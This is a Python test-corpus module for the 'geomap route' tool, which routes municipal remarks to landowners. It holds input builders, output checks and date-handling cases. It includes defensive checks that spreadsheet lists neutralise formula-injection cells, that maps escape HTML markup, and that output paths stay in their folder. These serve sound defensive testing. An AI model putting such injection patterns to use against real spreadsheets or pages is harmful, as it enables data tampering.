"""The corpus of hostile and unusual inputs for ``geomap route``: case builders and expectations.

Every case is a function that builds its inputs in a temporary folder (through :class:`Ctx`) and
returns a :class:`Setup` (the input files, extra ``geomap route`` arguments, how many remarks the
inputs hold). The decorator :func:`case` registers it in :data:`CASES` together with its expected
outcome:

- ``ok(*checks)``: exit 0; the generic checks in ``test_corpus.py`` (every input row exactly once,
  unique ids, 2D finite points, lists and summary agree) and then each check on the written outputs;
- ``error(code, regex)``: exit ``code`` (1 bad data, 2 usage) and exactly one ``geomap: error:``
  (or click's ``Error:``) line that matches ``regex``;
- ``one_of(...)``: where the issue explicitly allows either a correct result or a one-line error.

Where the issue leaves the outcome open, the comment above the case says why this one was chosen.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import html
import io
import json
import math
import os
import re
import warnings
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import shapely
from pyproj import Transformer

from tests.conftest import REGISTRY_TOML, RULES_TOML, X0, Y0

csv.field_size_limit(2**31 - 1)  # the corpus reads back cells of 140,000 characters

# --------------------------------------------------------------------------------------------
# Geography: three owners of 100 m squares in SWEREF 99 18 00 (as tests/conftest.py), a 10 m gap
#   kommun [0,100) | huge [100,200) | gap 200–210 | privat [210,310)     (x relative to X0)
# --------------------------------------------------------------------------------------------

OWNERS = ("kommun", "huge", "privat")
BOXES = {"kommun": (0, 0, 100, 100), "huge": (100, 0, 200, 100), "privat": (210, 0, 310, 100)}
SPOT = {
    "kommun": (X0 + 50, Y0 + 50),
    "huge": (X0 + 150, Y0 + 50),
    "privat": (X0 + 260, Y0 + 50),
    "gap": (X0 + 203, Y0 + 50),  # 3 m from huge, 7 m from privat: nearest → huge
}
NAMES = {
    "kommun": "Huddinge kommun",
    "huge": "Huge Bostäder AB",
    "privat": "Privat fastighetsägare",
}
_TO_WGS = Transformer.from_crs("EPSG:3011", "EPSG:4326", always_xy=True)
_TO_TM = Transformer.from_crs("EPSG:3011", "EPSG:3006", always_xy=True)


def wgs(spot: str) -> tuple[float, float]:
    """(lon, lat) of a spot."""
    lon, lat = _TO_WGS.transform(*SPOT[spot])
    return float(lon), float(lat)


def tm(spot: str) -> tuple[float, float]:
    """(E, N) of a spot in SWEREF 99 TM (EPSG:3006)."""
    e, n = _TO_TM.transform(*SPOT[spot])
    return float(e), float(n)


def num(value: float, decimal: str = ",", digits: int = 2) -> str:
    return f"{value:.{digits}f}".replace(".", decimal)


def owner_boxes(boxes: dict[str, tuple[float, float, float, float]] = BOXES) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"owner": list(boxes)},
        geometry=[shapely.box(X0 + a, Y0 + b, X0 + c, Y0 + d) for a, b, c, d in boxes.values()],
        crs="EPSG:3011",
    )


# --------------------------------------------------------------------------------------------
# The standard remark table: A1 → kommun, A2 → huge, A3 → privat (repeating for n > 3)
# --------------------------------------------------------------------------------------------

CATEGORIES = ("Klotter", "Skadegörelse", "Nedskräpning")


def routed_ids(n: int = 3, prefix: str = "A") -> dict[str, str]:
    return {f"{prefix}{i + 1}": OWNERS[i % 3] for i in range(n)}


def table_rows(
    n: int = 3,
    *,
    decimal: str = ",",
    columns: dict[str, Sequence[Any]] | None = None,
    drop: Sequence[str] = (),
    spots: Sequence[str] | None = None,
) -> list[list[Any]]:
    """Header and ``n`` rows: arendenr, datum, kategori, beskrivning, E, N (+ ``columns``)."""
    where = (
        [SPOT[s] for s in spots] if spots is not None else [SPOT[OWNERS[i % 3]] for i in range(n)]
    )
    base: dict[str, Sequence[Any]] = {
        "arendenr": [f"A{i + 1}" for i in range(n)],
        "datum": [f"2025-03-{i % 28 + 1:02d} 10:00" for i in range(n)],
        "kategori": [CATEGORIES[i % 3] for i in range(n)],
        "beskrivning": [f"anmärkning nummer {i + 1}" for i in range(n)],
        "E": [num(x, decimal) for x, _ in where],
        "N": [num(y, decimal) for _, y in where],
    }
    base.update(columns or {})
    for name in drop:
        base.pop(name)
    return [list(base), *(list(r) for r in zip(*base.values(), strict=True))]


def csv_text(rows: Sequence[Sequence[Any]], *, delimiter: str = ";", eol: str = "\r\n") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=eol).writerows(rows)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# Building inputs
# --------------------------------------------------------------------------------------------


class Ctx:
    """Builds a case's files in its temporary folder."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp

    def path(self, name: str) -> Path:
        path = self.tmp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def bytes(self, name: str, data: bytes) -> Path:
        path = self.path(name)
        path.write_bytes(data)
        return path

    def text(self, name: str, text: str, *, encoding: str = "utf-8") -> Path:
        return self.bytes(name, text.encode(encoding))

    def csv(
        self,
        name: str,
        rows: Sequence[Sequence[Any]] | None = None,
        *,
        delimiter: str = ";",
        encoding: str = "utf-8-sig",
        eol: str = "\r\n",
    ) -> Path:
        """A CSV file (Swedish Excel style by default: ``;``, UTF-8 with BOM, CRLF)."""
        text = csv_text(rows if rows is not None else table_rows(), delimiter=delimiter, eol=eol)
        return self.text(name, text, encoding=encoding)

    def xlsx(
        self,
        name: str,
        rows: Sequence[Sequence[Any]],
        *,
        sheet: str = "Blad1",
        merges: Sequence[str] = (),
        sheets: dict[str, Sequence[Sequence[Any]]] | None = None,
    ) -> Path:
        """An XLSX workbook written with openpyxl (``sheets`` are added after the first)."""
        from openpyxl import Workbook

        book = Workbook()
        first = book.active
        first.title = sheet
        for row in rows:
            first.append(list(row))
        for cells in merges:
            first.merge_cells(cells)
        for title, more in (sheets or {}).items():
            extra = book.create_sheet(title)
            for row in more:
                extra.append(list(row))
        path = self.path(name)
        book.save(path)
        return path

    def vector(
        self,
        name: str,
        frame: gpd.GeoDataFrame,
        *,
        layer: str | None = None,
        append: bool = False,
        **kwargs: Any,
    ) -> Path:
        path = self.path(name)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            pyogrio.write_dataframe(frame, path, layer=layer, append=append, **kwargs)
        return path

    def points(
        self,
        name: str,
        columns: dict[str, Sequence[Any]],
        spots: Sequence[str],
        *,
        crs: Any = "EPSG:3011",
        layer: str | None = None,
        append: bool = False,
        **kwargs: Any,
    ) -> Path:
        """A point layer at ``spots`` (reprojected to ``crs``) with ``columns``."""
        frame = gpd.GeoDataFrame(
            dict(columns), geometry=[shapely.Point(SPOT[s]) for s in spots], crs="EPSG:3011"
        )
        frame = frame.to_crs(crs) if crs is not None else frame.set_crs(None, allow_override=True)
        return self.vector(name, frame, layer=layer, append=append, **kwargs)

    def owners(self, name: str = "owners.gpkg", frame: gpd.GeoDataFrame | None = None) -> Path:
        return self.vector(name, owner_boxes() if frame is None else frame, layer="owners")

    def registry(
        self, text: str = REGISTRY_TOML, *, name: str = "owners.toml", encoding: str = "utf-8"
    ) -> Path:
        return self.text(name, text, encoding=encoding)

    def rules(
        self, text: str = RULES_TOML, *, name: str = "rules.toml", encoding: str = "utf-8"
    ) -> Path:
        return self.text(name, text, encoding=encoding)


@dataclass
class Setup:
    """What a case runs: ``geomap route INPUTS --owners OWNERS -o OUT [--no-map] ARGS``."""

    inputs: list[Path | str]
    rows: int | None = None  # remarks the inputs hold (required for an exit-0 outcome)
    args: list[Any] = field(default_factory=list)
    owners: Path | None = None  # None: the standard owner layer; see also `no_owners`
    no_owners: bool = False
    out: Path | None = None  # None: TMP/out
    cwd: Path | None = None
    maps: bool = False  # write the maps (else --no-map, to keep the corpus fast)
    xlsx: bool = False  # write XLSX lists (else --no-xlsx: openpyxl is most of a small run)
    keep: list[Path] = field(default_factory=list)  # files that must survive unchanged
    before: Callable[[], None] | None = None  # run just before geomap (e.g. a first run)
    after: Callable[[], None] | None = None  # run after geomap, also on failure (clean-up)


# --------------------------------------------------------------------------------------------
# What a check sees: the run and its outputs
# --------------------------------------------------------------------------------------------


@dataclass
class Run:
    """A finished ``geomap route`` and lazy access to what it wrote."""

    code: int
    output: str
    stderr: str
    out: Path
    rows: int | None
    exception: BaseException | None = None

    @functools.cached_property
    def remarks(self) -> gpd.GeoDataFrame:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return pyogrio.read_dataframe(
                self.out / "routed.gpkg", layer="remarks", datetime_as_string=True
            )

    @functools.cached_property
    def summary(self) -> dict[str, Any]:
        data: dict[str, Any] = json.loads((self.out / "summary.json").read_text(encoding="utf-8"))
        return data

    @property
    def warnings(self) -> list[str]:
        return [line for line in self.output.splitlines() if line.startswith("geomap: WARNING:")]

    def lookup(self, key: str | tuple[str, int]) -> pd.Series:
        """The remark with id ``key``, or at ``(source_file, source_row)``."""
        frame = self.remarks
        if isinstance(key, tuple):
            hit = frame[(frame["source_file"] == key[0]) & (frame["source_row"] == key[1])]
        else:
            hit = frame[frame["remark_id"] == key]
        assert len(hit) == 1, f"no single remark {key!r} (found {len(hit)}); ids {ids_of(frame)}"
        return hit.iloc[0]

    def owner_files(self, owner: str) -> dict[str, Path]:
        """The owner's list (csv, xlsx) and map (html) files as summary.json names them."""
        outputs = self.summary.get("outputs", {})
        files = {
            k: self.out / v
            for k, v in outputs.get("owners", {}).get(owner, {}).items()
            if k in ("csv", "xlsx")
        }
        html_map = outputs.get("owner_maps", {}).get(owner)
        if html_map:
            files["html"] = self.out / html_map
        return files

    def list_cells(self, path: Path) -> list[list[str]]:
        """Every row of a list CSV (header first)."""
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.reader(handle, delimiter=";"))

    def all_list_csvs(self) -> list[Path]:
        return sorted((self.out / "owners").glob("*.csv")) + [
            p for p in [self.out / "unrouted.csv"] if p.exists()
        ]

    def all_xlsx(self) -> list[Path]:
        return sorted((self.out / "owners").glob("*.xlsx"))


def ids_of(frame: pd.DataFrame) -> list[str]:
    return [str(v) for v in frame["remark_id"].tolist()[:8]]


def xlsx_cells(path: Path) -> Iterator[Any]:
    """Every non-empty cell of every sheet of a workbook (openpyxl cells)."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell


def local_minute(value: Any) -> str | None:
    """A stored timestamp as local (Europe/Stockholm) wall time ``YYYY-MM-DD HH:MM``.

    Timestamps with an offset (or ``Z``) are converted; naive ones are taken as local time.
    """
    if value is None or (isinstance(value, float) and math.isnan(value)) or value == "":
        return None
    if pd.isna(value):
        return None
    stamp = pd.Timestamp(value)
    if stamp.tzinfo is not None:
        stamp = stamp.tz_convert("Europe/Stockholm").tz_localize(None)
    return stamp.strftime("%Y-%m-%d %H:%M")


def text_of(value: Any) -> str | None:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return None
    if pd.isna(value):
        return None
    return str(value)


# --------------------------------------------------------------------------------------------
# Outcomes and checks
# --------------------------------------------------------------------------------------------

Check = Callable[[Run], None]


@dataclass(frozen=True)
class Ok:
    """Exit 0, the generic output checks, then ``checks``."""

    checks: tuple[Check, ...] = ()

    def describe(self) -> str:
        names = ", ".join(getattr(c, "__doc__", None) or c.__name__ for c in self.checks)
        return f"ok({names})" if names else "ok"


@dataclass(frozen=True)
class Error:
    """Exit ``codes`` with one ``geomap: error:`` (or ``Error:``) line matching ``pattern``."""

    codes: tuple[int, ...]
    pattern: str

    def describe(self) -> str:
        return f"error({'/'.join(map(str, self.codes))}, {self.pattern!r})"


@dataclass(frozen=True)
class OneOf:
    """Any of ``options`` (the issue allows a correct result or a one-line error)."""

    options: tuple[Ok | Error, ...]

    def describe(self) -> str:
        return " or ".join(o.describe() for o in self.options)


Outcome = Ok | Error | OneOf


def ok(*checks: Check) -> Ok:
    return Ok(tuple(checks))


def error(code: int | tuple[int, ...], pattern: str) -> Error:
    return Error((code,) if isinstance(code, int) else tuple(code), pattern)


def one_of(*options: Ok | Error) -> OneOf:
    return OneOf(tuple(options))


def _named(doc: str) -> Callable[[Check], Check]:
    def mark(check: Check) -> Check:
        check.__doc__ = doc
        return check

    return mark


def routed(mapping: dict[Any, str | None]) -> Check:
    """Each remark (id or (file, row)) goes to this owner (None: unrouted)."""

    @_named(f"owners {mapping}" if len(mapping) <= 4 else f"owners of {len(mapping)} remarks")
    def check(run: Run) -> None:
        for key, owner in mapping.items():
            got = text_of(run.lookup(key)["owner"])
            assert got == owner, f"remark {key!r} went to {got!r}, expected {owner!r}"

    return check


def values(column: str, mapping: dict[Any, Any]) -> Check:
    """routed.gpkg `column` holds exactly these texts (None: null)."""

    @_named(f"{column} values")
    def check(run: Run) -> None:
        assert column in run.remarks.columns, f"routed.gpkg has no column {column!r}"
        for key, want in mapping.items():
            got = text_of(run.lookup(key)[column])
            assert got == want, f"{column} of {key!r} is {_short(got)}, expected {_short(want)}"

    return check


def contains(column: str, mapping: dict[Any, Sequence[str]]) -> Check:
    """routed.gpkg `column` contains these substrings."""

    @_named(f"{column} contains")
    def check(run: Run) -> None:
        for key, parts in mapping.items():
            got = text_of(run.lookup(key)[column]) or ""
            for part in parts:
                assert part in got, f"{column} of {key!r} is {_short(got)}, lacks {part!r}"

    return check


def stamps(mapping: dict[Any, str | None]) -> Check:
    """Timestamps, as local wall time YYYY-MM-DD HH:MM (None: no timestamp)."""

    @_named("timestamps")
    def check(run: Run) -> None:
        for key, want in mapping.items():
            got = local_minute(run.lookup(key)["timestamp"])
            assert got == want, f"timestamp of {key!r} is {got!r}, expected {want!r}"

    return check


def dates(mapping: dict[Any, str | None]) -> Check:
    """Local dates YYYY-MM-DD of the timestamps (None: no timestamp)."""

    @_named("dates")
    def check(run: Run) -> None:
        for key, want in mapping.items():
            got = local_minute(run.lookup(key)["timestamp"])
            got = got[:10] if got else None
            assert got == want, f"date of {key!r} is {got!r}, expected {want!r}"

    return check


def flagged(key: Any, flag: str, *, present: bool = True) -> Check:
    """The remark's flags include (or not) `flag`."""

    @_named(f"{key} {'flagged' if present else 'not flagged'} {flag}")
    def check(run: Run) -> None:
        flags = (text_of(run.lookup(key)["flags"]) or "").split(";")
        assert (flag in flags) is present, f"flags of {key!r} are {flags}"

    return check


def methods(mapping: dict[Any, str]) -> Check:
    """route_method per remark."""

    @_named("route methods")
    def check(run: Run) -> None:
        for key, want in mapping.items():
            got = text_of(run.lookup(key)["route_method"])
            assert got == want, f"route_method of {key!r} is {got!r}, expected {want!r}"

    return check


def warned(pattern: str) -> Check:
    """Some `geomap: WARNING:` line matches the pattern."""

    @_named(f"warning ~ {pattern!r}")
    def check(run: Run) -> None:
        assert any(re.search(pattern, w, re.IGNORECASE) for w in run.warnings), (
            f"no warning matches {pattern!r}; warnings: {[w[:120] for w in run.warnings]}"
        )

    return check


def kept_values(expected: Sequence[str]) -> Check:
    """Some column of routed.gpkg holds exactly these values, in input order."""

    @_named(f"values {list(expected)[:3]} kept in some column")
    def check(run: Run) -> None:
        frame = run.remarks.sort_values(["source_file", "source_row"])
        want = [str(v) for v in expected]
        for column in frame.columns:
            if column == frame.geometry.name:
                continue
            got = [text_of(v) for v in frame[column].tolist()]
            if got == want:
                return
            if [_int_text(v) for v in got] == want:
                return
        raise AssertionError(
            f"no column of routed.gpkg holds {want}; columns {list(frame.columns)}"
        )

    return check


def _int_text(value: str | None) -> str | None:
    if value is not None and re.fullmatch(r"-?\d+\.0", value):
        return value[:-2]
    return value


def summary_check(doc: str, predicate: Callable[[dict[str, Any]], bool]) -> Check:
    @_named(doc)
    def check(run: Run) -> None:
        assert predicate(run.summary), f"summary.json: {doc} does not hold"

    return check


def maps_column(column: str, model_field: str) -> Check:
    """summary.json records that input `column` became model `field`."""

    @_named(f"summary maps {column} → {model_field}")
    def check(run: Run) -> None:
        def pairs(node: Any) -> Iterator[tuple[Any, Any]]:
            if isinstance(node, dict):
                yield from ((k, v) for k, v in node.items() if isinstance(v, str))
                for v in node.values():
                    yield from pairs(v)
            elif isinstance(node, list):
                if len(node) == 2 and all(isinstance(v, str) for v in node):
                    yield node[0], node[1]
                for v in node:
                    yield from pairs(v)

        found = set(pairs(run.summary.get("inputs", [])))
        assert (model_field, column) in found or (column, model_field) in found, (
            f"summary.json inputs do not say that {column!r} became {model_field!r}"
        )

    return check


def xlsx_opens_and_clean(owner: str, parts: Sequence[str]) -> Check:
    """The owner's XLSX exists, opens, has no control characters, and holds `parts`."""

    @_named(f"{owner}.xlsx opens, clean")
    def check(run: Run) -> None:
        files = run.owner_files(owner)
        assert "xlsx" in files and files["xlsx"].is_file(), f"no XLSX list for {owner!r}: {files}"
        texts = [str(c.value) for c in xlsx_cells(files["xlsx"])]
        bad = [t for t in texts if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t)]
        assert not bad, f"control characters in XLSX cells: {bad[:2]!r}"
        for part in parts:
            assert any(part in t for t in texts), f"{part!r} not in {owner}'s XLSX"

    return check


def xlsx_cell_limit(owner: str, start: str) -> Check:
    """The owner's XLSX holds the long text cut to at most 32,767 characters."""

    @_named(f"{owner}.xlsx long cell cut")
    def check(run: Run) -> None:
        files = run.owner_files(owner)
        assert "xlsx" in files and files["xlsx"].is_file(), f"no XLSX list for {owner!r}: {files}"
        texts = [str(c.value) for c in xlsx_cells(files["xlsx"])]
        longest = max(texts, key=len)
        assert len(longest) <= 32_767, f"an XLSX cell holds {len(longest)} characters"
        assert any(t.startswith(start) for t in texts), f"the cut text {start!r}… is missing"

    return check


def text_length(key: Any, column: str, length: int) -> Check:
    @_named(f"{column} of {key} keeps {length} characters")
    def check(run: Run) -> None:
        got = text_of(run.lookup(key)[column]) or ""
        assert len(got) == length, f"{column} of {key!r} has {len(got)} characters, not {length}"

    return check


_RISKY = re.compile(r"^(?:[=+@\t\r\uff1d\uff0b\uff0d\uff20]|-(?!\d))")


def lists_neutralise(payloads: Sequence[str]) -> Check:
    """No list cell starts a formula; each payload appears neutralised (CSV: leading ')."""

    @_named("formulas neutralised in lists")
    def check(run: Run) -> None:
        cells = [c for p in run.all_list_csvs() for row in run.list_cells(p) for c in row]
        risky = [c for c in cells if _RISKY.match(c)]
        assert not risky, f"list CSV cells that start a formula: {risky[:3]!r}"
        for payload in payloads:
            assert "'" + payload in cells, f"{payload!r} not in the lists as '{payload}"
        for path in run.all_xlsx():
            for cell in xlsx_cells(path):
                assert cell.data_type != "f", f"{path.name}: formula cell {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not _RISKY.match(cell.value), f"{path.name}: cell {cell.value!r}"
        texts = {str(c.value) for p in run.all_xlsx() for c in xlsx_cells(p)}
        for payload in payloads:
            assert payload in texts or "'" + payload in texts, f"{payload!r} not in the XLSX lists"

    return check


def maps_escape(payloads: Sequence[str]) -> Check:
    """The maps never hold the raw markup; its text is in the map's data."""

    @_named("maps escape markup")
    def check(run: Run) -> None:
        pages = [run.out / "map.html", *sorted((run.out / "owners").glob("*.html"))]
        assert (run.out / "map.html").is_file(), "no map.html"
        for page in pages:
            text = page.read_text(encoding="utf-8")
            for payload in payloads:
                for raw in re.findall(r"<[a-z]+[^<]*", payload):
                    assert raw not in text, f"{page.name} holds raw markup {raw!r}"
        data = _json_blocks((run.out / "map.html").read_text(encoding="utf-8"))
        for payload in payloads:
            assert payload in data or html.escape(payload) in data, (
                f"{payload!r} is not in map.html's data"
            )

    return check


def _json_blocks(page: str) -> str:
    """The strings inside the page's JSON data blocks, joined (decoded)."""
    found: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, str):
            found.append(node)
        elif isinstance(node, dict):
            for v in node.values():
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)

    for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S):
        with contextlib.suppress(ValueError):
            walk(json.loads(block))
    return "\n".join(found)


def owner_lists(expected: dict[str, Sequence[str]]) -> Check:
    """Each owner's CSV, XLSX and HTML share one stem, distinct per owner, and its CSV holds
    exactly its remarks (by id)."""

    @_named("one stem per owner, own remarks only")
    def check(run: Run) -> None:
        stems: dict[str, str] = {}
        for owner, ids in expected.items():
            files = run.owner_files(owner)
            assert "csv" in files, f"summary.json names no list for {owner!r}"
            found = {p.stem for p in files.values()}
            assert len(found) == 1, f"{owner!r}: files with different stems {files}"
            stem = found.pop()
            assert len(stem.encode()) <= 200, f"{owner!r}: stem of {len(stem)} characters"
            for path in files.values():
                assert path.is_file(), f"{path} is missing"
                assert path.resolve().parent == (run.out / "owners").resolve(), f"{path} escapes"
            stems[owner] = stem
            rows = run.list_cells(files["csv"])
            column = rows[0].index("Id")
            got = sorted(r[column] for r in rows[1:])
            assert got == sorted(ids), f"{files['csv'].name} holds {got}, expected {sorted(ids)}"
        lowered = [s.lower() for s in stems.values()]
        assert len(set(lowered)) == len(lowered), f"owners share a file stem: {stems}"

    return check


def list_mentions(owner: str, text: str) -> Check:
    """The owner's CSV list holds `text` in some cell."""

    @_named(f"{owner}'s list holds {text!r}")
    def check(run: Run) -> None:
        files = run.owner_files(owner)
        assert "csv" in files, f"no list for {owner!r}"
        cells = [c for row in run.list_cells(files["csv"]) for c in row]
        assert any(text in c for c in cells), f"{text!r} not in {files['csv'].name}"

    return check


def unique_ids(keys: dict[Any, str | None]) -> Check:
    """The remark ids of these remarks (None: any id)."""

    @_named("ids")
    def check(run: Run) -> None:
        for key, want in keys.items():
            got = text_of(run.lookup(key)["remark_id"])
            if want is not None:
                assert got == want, f"remark_id of {key!r} is {got!r}, expected {want!r}"

    return check


def custom(doc: str, function: Callable[[Run], None]) -> Check:
    return _named(doc)(function)


def _short(value: Any) -> str:
    text = repr(value)
    return text if len(text) <= 80 else f"{text[:60]}…({len(str(value))} chars)"


# --------------------------------------------------------------------------------------------
# The table of cases
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Ctx], Setup]
    expect: Outcome


CASES: list[Case] = []

Build = Callable[[Ctx], Setup]


def case(expect: Outcome, *, xlsx: bool = False) -> Callable[[Build], Build]:
    """Register the decorated builder (named as the case) with its expected outcome.

    ``xlsx=True`` writes the XLSX lists too (cases whose text reaches the lists' cells).
    """

    def register(build: Build) -> Build:
        assert all(c.name != build.__name__ for c in CASES), build.__name__

        def built(c: Ctx) -> Setup:
            setup = build(c)
            setup.xlsx = setup.xlsx or xlsx
            return setup

        CASES.append(Case(build.__name__, built, expect))
        return build

    return register


STANDARD = routed(routed_ids())


def csv_case(c: Ctx, rows: Sequence[Sequence[Any]], name: str = "a.csv", **kwargs: Any) -> Setup:
    return Setup([c.csv(name, rows, **kwargs)], rows=len(rows) - 1)


def walk_columns(n: int = 3, **extra: Sequence[Any]) -> dict[str, Sequence[Any]]:
    """Columns of a safety-walk protocol layer (as the demo's trygghetsvandringar)."""
    columns: dict[str, Sequence[Any]] = {
        "vandring_id": ["TV-2025-07"] * n,
        "vandringsdatum": ["2025-05-12"] * n,
        "plats": ["Flemingsbergs centrum"] * n,
        "nr": list(range(1, n + 1)),
        "kategori": ["Belysning", "Otrygg plats", "Klotter"][:n],
        "anmarkning": [f"vandringens anmärkning {i + 1}" for i in range(n)],
        "onskad_atgard": [f"åtgärd {i + 1}" for i in range(n)],
    }
    columns.update(extra)
    return columns


WALK = {("walk.gpkg", i + 1): OWNERS[i] for i in range(3)}


def walk_gpkg(c: Ctx, name: str = "walk.gpkg", **extra: Sequence[Any]) -> Path:
    return c.points(name, walk_columns(**extra), OWNERS, crs="EPSG:3006", layer="anmarkningar")


# ============================================================================================
# A. One model per input file: mixed formats whose model columns differ
# ============================================================================================


@case(
    ok(
        STANDARD,
        routed(WALK),
        values("description", {("walk.gpkg", 1): "vandringens anmärkning 1"}),
        values(
            "description",
            {("walk.gpkg", 3): "vandringens anmärkning 3", "A1": "anmärkning nummer 1"},
        ),
        values("action", {("walk.gpkg", 2): "åtgärd 2"}),
    ),
    xlsx=True,
)
def mixed_csv_gpkg_description_per_file(c: Ctx) -> Setup:
    # The README's own run: lägesbild CSV (beskrivning) + walk GeoPackage (anmarkning).
    return Setup([c.csv("a.csv"), walk_gpkg(c)], rows=6)


@case(ok(dates({("walk.gpkg", i): "2025-05-12" for i in (1, 2, 3)}), dates({"A1": "2025-03-01"})))
def walk_timestamp_from_walk_date(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv"), walk_gpkg(c)], rows=6)


@case(ok(stamps({("walk.gpkg", 1): "2025-05-12 18:30", ("walk.gpkg", 2): "2025-05-12 19:05"})))
def walk_date_and_time(c: Ctx) -> Setup:
    return Setup([walk_gpkg(c, tid=["18:30", "19:05", "19:40"])], rows=3)


@case(ok(maps_column("anmarkning", "description"), maps_column("beskrivning", "description")))
def summary_records_columns_per_file(c: Ctx) -> Setup:
    return Setup([c.csv("a.csv"), walk_gpkg(c)], rows=6)


@case(
    ok(
        STANDARD,
        routed(routed_ids(prefix="B")),
        values("description", {"B2": "anmärkning nummer 2"}),
    )
)
def csv_then_xlsx_same_columns(c: Ctx) -> Setup:
    # Crashed with ArrowTypeError (text ids/numbers in the CSV, numbers in the XLSX).
    rows = table_rows(decimal=".", columns={"arendenr": ["B1", "B2", "B3"]})
    rows = [rows[0], *([*r[:4], float(r[4]), float(r[5])] for r in rows[1:])]
    return Setup([c.csv("a.csv"), c.xlsx("b.xlsx", rows)], rows=6)


@case(ok(STANDARD, routed(routed_ids(prefix="B"))))
def xlsx_then_csv_same_columns(c: Ctx) -> Setup:
    rows = table_rows(decimal=".", columns={"arendenr": ["B1", "B2", "B3"]})
    rows = [rows[0], *([*r[:4], float(r[4]), float(r[5])] for r in rows[1:])]
    return Setup([c.xlsx("b.xlsx", rows), c.csv("a.csv")], rows=6)


@case(ok(STANDARD, unique_ids({("b.xlsx", 1): "1", ("b.xlsx", 2): "2"})))
def csv_text_ids_then_xlsx_numeric_ids(c: Ctx) -> Setup:
    rows = table_rows(decimal=".")
    rows = [rows[0], *([i + 1, *r[1:4], float(r[4]), float(r[5])] for i, r in enumerate(rows[1:]))]
    return Setup([c.csv("a.csv"), c.xlsx("b.xlsx", rows)], rows=6)


@case(
    ok(
        values(
            "category", {"A1": "klotter", ("g.gpkg", 1): "klotter", ("g.gpkg", 2): "skadegorelse"}
        ),
        values("description", {("g.gpkg", 2): "krossad ruta i porten"}),
    )
)
def csv_and_gpkg_with_different_model_columns(c: Ctx) -> Setup:
    gpkg = c.points(
        "g.gpkg",
        {
            "handelse_id": ["G1", "G2"],
            "händelsetyp": ["Klotter", "Skadegörelse"],
            "notering": ["tags", "krossad ruta i porten"],
        },
        ["kommun", "huge"],
    )
    return Setup([c.csv("a.csv"), gpkg], rows=5)


@case(
    ok(
        STANDARD,
        routed({"B1": "kommun", "B2": "huge"}),
        values("description", {"B2": "Trasig gunga vid förskolan"}),
    )
)
def two_csvs_different_delimiter_and_encoding(c: Ctx) -> Setup:
    second = table_rows(
        2,
        decimal=".",
        columns={"arendenr": ["B1", "B2"], "beskrivning": ["tags", "Trasig gunga vid förskolan"]},
    )
    return Setup([c.csv("a.csv"), c.csv("b.csv", second, delimiter=",", encoding="cp1252")], rows=5)


@case(
    ok(
        flagged(("walk.gpkg", 1), "protocol_owner_differs"),
        flagged(("walk.gpkg", 2), "protocol_owner_differs", present=False),
        routed({("walk.gpkg", 1): "kommun", ("walk.gpkg", 2): "kommun"}),
    ),
    xlsx=True,
)
def protocol_owner_differs(c: Ctx) -> Setup:
    # The protocol names the landowner; row 1 names the wrong one, row 2 the right one (by the
    # registry's display name, as a protocol writer would).
    frame = walk_columns(2, markagare_enligt_protokoll=["Huge Bostäder AB", "Huddinge kommun"])
    path = c.points("walk.gpkg", frame, ["kommun", "kommun"], crs="EPSG:3006")
    return Setup([path], rows=2, args=["--registry", c.registry()])


@case(
    ok(
        flagged("A2", "protocol_owner_differs"),
        flagged("A1", "protocol_owner_differs", present=False),
    )
)
def table_with_markagare_column(c: Ctx) -> Setup:
    rows = table_rows(
        columns={
            "markägare": ["Huddinge kommun", "Privat fastighetsägare", "Privat fastighetsägare"]
        }
    )
    return Setup([c.csv("a.csv", rows)], rows=3, args=["--registry", c.registry()])


# ============================================================================================
# B. Dates
# ============================================================================================


def dated(c: Ctx, datum: Sequence[Any], **columns: Sequence[Any]) -> Setup:
    n = len(datum)
    return csv_case(c, table_rows(n, columns={"datum": list(datum), **columns}))


@case(
    ok(stamps({"A1": "2025-01-15 10:00", "A2": "2025-07-15 10:00", "A3": "2025-12-01 08:30"})),
    xlsx=True,
)
def iso_offsets_plus01_and_plus02(c: Ctx) -> Setup:
    # Every year-long export has both; crashed with "Mixed timezones detected".
    return dated(
        c, ["2025-01-15T10:00:00+01:00", "2025-07-15T10:00:00+02:00", "2025-12-01T08:30:00+01:00"]
    )


@case(
    ok(stamps({"A1": "2025-03-01 10:00", "A2": "2025-07-01 11:00", "A3": "2025-03-01 10:00"})),
    xlsx=True,
)
def iso_utc_z(c: Ctx) -> Setup:
    return dated(c, ["2025-03-01T09:00:00Z", "2025-07-01T09:00:00Z", "2025-03-01T09:00:00.123Z"])


@case(ok(stamps({"A1": "2025-03-01 10:00", "A2": "2025-03-02 10:00", "A3": "2025-08-02 10:00"})))
def iso_naive_and_offsets_mixed(c: Ctx) -> Setup:
    # Naive times are local (Europe/Stockholm); the others carry their offset.
    return dated(c, ["2025-03-01 10:00", "2025-03-02T10:00:00+01:00", "2025-08-02T10:00+02:00"])


@case(ok(dates({"A1": "2025-06-01", "A3": "2025-12-24"}), stamps({"A2": "2025-06-02 14:30"})))
def datum_with_empty_tid(c: Ctx) -> Setup:
    # 2025-06-01 with an empty tid was stored as 2025-01-06.
    return dated(c, ["2025-06-01", "2025-06-02", "2025-12-24"], tid=["", "14:30", ""])


